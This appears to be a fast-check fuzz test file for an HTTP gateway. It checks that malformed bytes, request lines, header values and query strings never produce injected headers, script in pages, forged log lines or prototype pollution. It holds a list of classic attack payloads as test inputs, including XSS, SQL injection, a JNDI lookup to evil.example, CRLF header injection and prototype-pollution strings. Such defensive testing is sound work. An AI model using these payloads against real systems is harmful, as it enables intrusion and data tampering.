import { expect } from 'chai'
import fc from 'fast-check'
import { type EchoUpstream, startEchoUpstream } from '../support/echo-upstream.ts'
import { type GatewayUnderTest, startGateway } from '../support/gateway.ts'
import { type RawClient, rawClient } from '../support/raw-client.ts'

const RUNS = { numRuns: 150 }

/** Things that were written into logs, headers and pages before. */
const payloads = [
  '"><script>alert(1)</script>',
  "'; DROP TABLE users; --",
  '\x24{jndi:ldap://evil.example/x}',
  '{{7*7}}',
  '%0d%0aSet-Cookie:%20a=b',
  '\u001b[31mred',
  '\u202egnp.exe',
  '\u2028{"level":"error"}',
  '{"level":"error","message":"forged"}',
  '__proto__',
  'constructor[prototype][x]=1',
  'a'.repeat(4_000),
]

describe('Whatever comes', () => {
  let upstream: EchoUpstream
  let gateway: GatewayUnderTest
  let client: RawClient
  before(async () => {
    upstream = await startEchoUpstream()
    const route = { upstream: upstream.origin }
    gateway = await startGateway({
      env: { RATE_LIMIT_AUTH_FAILURES: 'off', RATE_LIMIT_DEFAULT: 'off', RATE_LIMIT_LOGIN: 'off' },
      routes: [
        { ...route, id: 'public', path: '/public', auth: 'none', cookies: 'pass', setCookie: 'pass' },
        { ...route, id: 'private', path: '/private', auth: ['session', 'bearer'] },
      ],
    })
    client = rawClient(gateway.port)
  })
  after(async () => {
    await gateway.stop()
    await upstream.stop()
  })
  afterEach(async () => {
    expect((await client.ask({ target: '/health' })).status).to.equal(200)
  })

  /** Sends bytes and a last word, and answers everything that came back. */
  async function exchange(bytes: string | Buffer): Promise<string> {
    const connection = await client.connect()
    const last = client.write({ target: '/health', headers: { Connection: 'close' } })
    connection.send(Buffer.concat([client.write(bytes), last]))
    const received = await connection.rest()
    connection.destroy()
    return received
  }

  it('as bytes, is answered in HTTP or not at all', () =>
    fc.assert(
      fc.asyncProperty(fc.uint8Array({ minLength: 1, maxLength: 300 }), async (bytes) => {
        const received = await exchange(Buffer.concat([Buffer.from(bytes), Buffer.from('\r\n\r\n')]))
        expect(received).to.match(/^(HTTP\/1\.1 [45]\d\d |HTTP\/1\.1 200 OK\r\n|$)/)
      }),
      RUNS,
    ))

  it('as a request line, is answered once', () =>
    fc.assert(
      fc.asyncProperty(
        fc.constantFrom('GET', 'POST', 'HEAD', 'OPTIONS', 'TRACE', 'FOO', 'G\x00T'),
        fc.string({ unit: 'binary-ascii', maxLength: 40 }),
        fc.constantFrom('HTTP/1.1', 'HTTP/1.0', 'HTTP/0.9', 'HTTP/9.9', 'http/1.1', ''),
        async (method, target, version) => {
          const received = await exchange(
            `${method} /public/${target} ${version}\r\nHost: localhost:${gateway.port}\r\n\r\n`,
          )
          expect(received.length === 0 || received.startsWith('HTTP/1.1 ')).to.equal(true)
        },
      ),
      RUNS,
    ))

  it('as fields, never becomes a field of the answer', () => {
    const value = fc.oneof(fc.string({ unit: 'binary-ascii', maxLength: 60 }), fc.constantFrom(...payloads))
    const name = fc.constantFrom(
      'X-Request-Id',
      'Origin',
      'Cookie',
      'Accept',
      'X-Custom',
      'Referer',
      'traceparent',
      'Host',
    )
    return fc.assert(
      fc.asyncProperty(
        fc.constantFrom('/private', '/public', '/me', '/login'),
        name,
        value,
        async (target, field, text) => {
          const host = field === 'Host' ? '' : `Host: localhost:${gateway.port}\r\n`
          const bytes = Buffer.from(`GET ${target} HTTP/1.1\r\n${host}${field}: ${text}\r\n\r\n`)
          const received = await exchange(bytes)
          const [head = ''] = received.split('\r\n\r\n')
          expect(head).not.to.match(/^(set-cookie: a=b|x-evil)/im)
          expect(head).not.to.contain('<script')
        },
      ),
      RUNS,
    )
  })

  for (const payload of payloads)
    it(`in every place, leaves no trace in page or log: ${JSON.stringify(payload.slice(0, 30))}`, async () => {
      const before = gateway.logged().length
      const encoded = encodeURIComponent(payload).slice(0, 6_000)
      const headers = { Accept: 'text/html', 'User-Agent': payload, Referer: payload, Cookie: `a=${payload}` }
      const readable = Object.fromEntries(
        Object.entries(headers).map(([name, text]) => [name, text.replace(/[^\x20-\x7e]/g, '?')]),
      )
      for (const target of [
        `/${encoded}`,
        `/public/${encoded}`,
        `/private?q=${encoded}`,
        `/callback?error=${encoded}`,
      ]) {
        const answer = await client.ask({ target, headers: readable })
        expect(answer.status).to.be.lessThan(500)
        if (answer.header('content-type')?.startsWith('text/html')) expect(answer.text()).not.to.contain('<script>')
      }
      // Each line is JSON, or reading the log would fail; and none was written by the client.
      const lines = gateway.logged().slice(before)
      expect(lines.filter(({ message }) => message === 'forged')).to.deep.equal([])
      for (const control of ['\u001b', '\u202e', '\u2028']) expect(gateway.logText()).not.to.contain(control)
    })

  it('as a name in the query, cannot touch what every object has', async () => {
    for (const query of [
      '__proto__[x]=1',
      'constructor.prototype.x=1',
      '__proto__=1',
      'toString=1',
      'a[__proto__][x]=1',
    ])
      for (const target of ['/login', '/callback', '/me', '/session', '/ready'])
        expect((await client.ask({ target: `${target}?${query}` })).status).to.be.lessThan(504)
    expect(({} as Record<string, unknown>).x).to.equal(undefined)
  })

  it('as answers, is no worse', () =>
    fc.assert(
      fc.asyncProperty(
        fc.uint8Array({ maxLength: 300 }),
        fc.constantFrom('', 'HTTP/1.1 200 OK\r\n'),
        async (bytes, start) => {
          upstream.on(
            '/public/odd',
            ({ socket }) => void socket.end(Buffer.concat([Buffer.from(start), Buffer.from(bytes)])),
          )
          const outcome = await client.ask({ target: '/public/odd' }).then(
            ({ status }) => status,
            () => 'broken off',
          )
          expect(outcome).to.be.oneOf([200, 502, 'broken off'])
        },
      ),
      RUNS,
    ))
})
